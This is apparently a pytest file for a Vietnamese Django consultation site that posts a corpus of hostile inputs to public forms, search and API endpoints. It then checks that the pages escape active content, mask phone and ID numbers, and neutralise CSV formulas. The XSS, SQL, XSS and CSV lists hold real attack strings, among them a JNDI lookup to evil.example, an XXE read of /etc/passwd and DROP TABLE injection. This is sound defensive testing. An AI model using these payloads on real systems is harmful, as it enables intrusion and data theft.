"""A corpus of hostile inputs posted to every public form and query box (issue #10).

Each input goes to the comment form (as the comment and as the name), the question form of a
dialogue, the search page in every format and the API's search. Then every comment is approved,
as a moderator in a hurry would, and every public page and export is read back. Whatever was
sent: no 5xx, nothing unmasked published, no contact detail in any public response, no active
content in any page or export.
"""

import csv
import datetime
import io
import re

import pytest
from bs4 import BeautifulSoup

from django.conf import settings
from django.utils import timezone

from consultations import services
from consultations.models import Comment
from tests.consultations.factories import comment_post_data, open_window
from tests.dialogues.factories import DialoguePageFactory
from tests.policies.factories import PolicyPageFactory, section

pytestmark = pytest.mark.django_db

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(document.cookie)</script>',
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">bấm</a>',
    "<iframe src=//evil.example></iframe>",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "<style>body{display:none}</style>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)>",
    "'';!--\"<XSS>=&{()}",
]
BIDI = [
    "\u202eNguyễn Văn A",
    "Góp ý \u2066ngược\u2069 chiều",
    "\u202a\u202b\u202c\u202d trộn",
    "abc\u200fdef\u200e",
    "\u2067\u2068 cô lập",
]
CONTROL = [
    "đất\x00đai",
    "\x00",
    "\x01\x02\x03\x1b[31mđỏ",
    "dòng\rmới\n\nvà\ttab",
    "\ufeffBOM ở đầu",
    "\u200b\u200c\u200d không rộng",
    "\ud7ff",
]
HUGE = ["đ" * 5001, "a" * 100_000, "Góp ý " * 2000]
SQL = [
    "' OR 1=1 --",
    "'; DROP TABLE consultations_comment; --",
    '" OR ""="',
    "1; SELECT pg_sleep(0)",
    "UNION SELECT contact_email FROM consultations_comment",
    "\\'; --",
    "%' AND 1=1 AND '%'='",
]
FORMULAS = ["=1+1", "+84 cmd", "-2+3", "@SUM(A1:A9)", "\t=tab", "\r=cr", '=HYPERLINK("http://x.example","bấm")']
# Each with the digits that must never be published.
PERSONAL_NUMBERS = [
    ("Gọi 0912345678", "0912345678"),
    ("Số 0912 345 678", "0912 345 678"),
    ("ĐT 0912.345.678", "0912.345.678"),
    ("+84 912 345 678 nhé", "912 345 678"),
    ("(+84) 912 345 678", "912 345 678"),
    ("84912345678", "84912345678"),
    ("(091) 234 5678", "234 5678"),
    ("Máy bàn 0239 3691 234", "3691 234"),
    ("CCCD 042090001234", "042090001234"),
    ("CCCD 042 090 001234", "042 090 001234"),
    ("CCCD 0420 9000 1234", "0420 9000 1234"),
    ("CMND 183456789", "183456789"),
    ("số ０９１２３４５６７８", "０９１２３４５６７８"),
    ("0912\u200b345\u200b678", "345\u200b678"),
    ("0912\u00a0345\u00a0678", "345\u00a0678"),
    ("Zalo 0987.654.321", "0987.654.321"),
    ("(0239) 3.855.000", "3.855.000"),
    ("CMND số: 183 456 789", "183 456 789"),
]
MONEY = ["Hỗ trợ 5.000.000.000 đồng", "50.000 đồng/m²", "Nghị quyết 12/2024/NQ-HĐND ngày 12/07/2024"]
LINKS = ["http://a.example http://b.example http://c.example www.d.example", "xem https://spam.example/?q=1"]
OTHER = ["", " ", "🙂🙃 emoji", "Ｆｕｌｌｗｉｄｔｈ", "ⓓⓐⓝ", "../../../etc/passwd", "%00%2e%2e", "null", "None"]
UNICODE = [
    "Đối thoại",  # decomposed (NFD) Vietnamese, as some keyboards send it
    "Z̷̢̛a̸͎̓l̴̰̈g̵̱̈́o̸̦͝ ̷̛̟t̶̖̓e̵̮͝x̷̰̾t̵͈̂",
    "مرحبا بالعالم",  # right-to-left script
    "שלום עולם",
    "👨‍👩‍👧‍👦 gia đình",
    "line\u2028separator\u2029paragraph",
    "Ꭰ𝐚𝐧 𝓿𝓪̣̂𝓷",  # look-alike letters
    "x" * 300,  # one very long word
    "tab\tseparated\tvalues",
    "\\x00 literally",
    "%s %(name)s {0} {name}",
    "${jndi:ldap://evil.example/a}",
    '<!--#exec cmd="ls" -->',
    "<?php echo 1; ?>",
    "]]><![CDATA[",
    "<xml><!ENTITY x SYSTEM 'file:///etc/passwd'></xml>",
    "-- giải thích",
    "@Chủ tịch UBND tỉnh",
    "+ bổ sung khoản 3",
    "= tổng cộng",
    "0000000000000",
    "123456789012345678901234567890",
    "9" * 12,
    "Số tài khoản 1903 6789 0123 45",
    "email: ai.do@example.com (trong nội dung)",
    "Liên hệ qua Zalo 0912 345 678 hoặc 0987.654.321",
    "CCCD: 0 4 2 0 9 0 0 0 1 2 3 4",
]

CORPUS = (
    XSS
    + BIDI
    + CONTROL
    + HUGE
    + SQL
    + FORMULAS
    + [text for text, _ in PERSONAL_NUMBERS]
    + MONEY
    + LINKS
    + OTHER
    + UNICODE
)
CONTACT_EMAIL = "rieng-tu.{n}@example.com"
CONTACT_PHONE = "0977{n:06d}"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")


def test_the_corpus_is_large_enough():
    assert len(CORPUS) >= 100


@pytest.fixture
def targets(site_tree):
    draft = PolicyPageFactory(
        parent=site_tree["policies"],
        title="Dự thảo quy định về phí chợ",
        text=[section("article", "3", "Mức phí", "Mức phí theo diện tích.")],
        **open_window(),
    )
    dialogue = DialoguePageFactory(
        parent=site_tree["dialogues"],
        title="Đối thoại về chợ",
        held_at=timezone.now() + datetime.timedelta(days=10),
        accepts_questions=True,
    )
    return draft, dialogue


def post(client, url, n, **fields):
    """One submission from its own address and contact, as many different people would send."""
    data = comment_post_data(
        section="",
        contact_email=CONTACT_EMAIL.format(n=n),
        contact_phone=CONTACT_PHONE.format(n=n),
        **fields,
    )
    return client.post(url, data, REMOTE_ADDR=f"10.{n // 60000}.{n // 250 % 250}.{n % 250}")


def public_responses(client, draft, dialogue):
    urls = [
        draft.url,
        draft.url + "y-kien/",
        draft.url + "y-kien/csv/",
        draft.url + "y-kien/json/",
        dialogue.url,
        "/",
        "/van-ban/",
        "/van-ban/?format=csv",
        f"/api/v2/pages/{draft.pk}/",
        f"/api/v2/pages/{dialogue.pk}/",
        # Open data: the API of comments and the bulk file.
        "/api/v2/comments/?limit=20",
        "/du-lieu-mo/y-kien.csv",
        "/du-lieu-mo/y-kien.json",
    ]
    for query in ["chợ", "góp ý", "script", "0912", "đất"]:
        urls += [f"/tim-kiem/?q={query}&format={fmt}" for fmt in ("html", "json", "csv", "atom")]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        yield url, response


def assert_no_active_content(html, url):
    """What citizens sent is shown as text: no script, frame or event handler came from it."""
    soup = BeautifulSoup(html, "html.parser")
    for script in soup.find_all("script"):
        assert "alert" not in script.get_text(), url
    assert not soup.find_all(["iframe", "svg", "math", "style"]), url
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on"), (url, element.name, name)
            values = value if isinstance(value, list) else [value]
            assert not any(str(v).strip().lower().startswith("javascript:") for v in values), (url, name)
    assert settings.SECRET_KEY not in html, url


def test_hostile_input_is_refused_or_published_harmlessly(client, targets, moderator):
    draft, dialogue = targets
    statuses = []
    for n, text in enumerate(CORPUS):
        statuses.append(post(client, draft.url + "gop-y/", 2 * n, body=text or "Góp ý", display_name="Dân").status_code)
        statuses.append(
            post(client, draft.url + "gop-y/", 2 * n + 1, body="Góp ý về phí chợ", display_name=text[:100]).status_code
        )
        statuses.append(post(client, dialogue.url + "cau-hoi/", 10_000 + n, body=text or "Hỏi").status_code)
        for params in ({"q": text[:300]}, {"q": text[:300], "format": "json"}, {"q": text[:300], "format": "atom"}):
            statuses.append(client.get("/tim-kiem/", params).status_code)
        statuses.append(client.get("/api/v2/pages/", {"search": text[:300]}).status_code)
        open_data_filters = {"page": text[:50], "received_from": text[:300], "agency": text[:50]}
        statuses.append(client.get("/api/v2/comments/", open_data_filters).status_code)
    assert not [s for s in statuses if s >= 500]
    assert set(statuses) <= {200, 302, 400}
    assert Comment.objects.count() > len(CORPUS)

    # A moderator in a hurry approves everything; masking and escaping must hold anyway.
    services.approve(list(Comment.objects.all()), moderator)
    for url, response in public_responses(client, draft, dialogue):
        content = b"".join(response.streaming_content) if response.streaming else response.content
        body = content.decode("utf-8-sig")
        for n in range(2 * len(CORPUS) + 1):
            assert CONTACT_EMAIL.format(n=n) not in body, url
            assert CONTACT_PHONE.format(n=n) not in body, url
        for _text, digits in PERSONAL_NUMBERS:
            assert digits not in body, (url, digits)
        assert not BIDI_CONTROLS.search(body), url
        if "csv" in url:
            for row in csv.reader(io.StringIO(body)):
                assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], (url, row)
        elif response["Content-Type"].startswith("text/html"):
            assert_no_active_content(body, url)


def test_malformed_utf8_in_a_form_is_refused_cleanly(client, targets):
    draft, _dialogue = targets
    response = client.post(
        draft.url + "gop-y/",
        data=b"body=%C3%28%FF%FE&consent=on&display_name=%E2%82",
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code in (400, 403)
    assert not Comment.objects.exists()
    assert client.get("/tim-kiem/?q=%C3%28%FF").status_code == 200
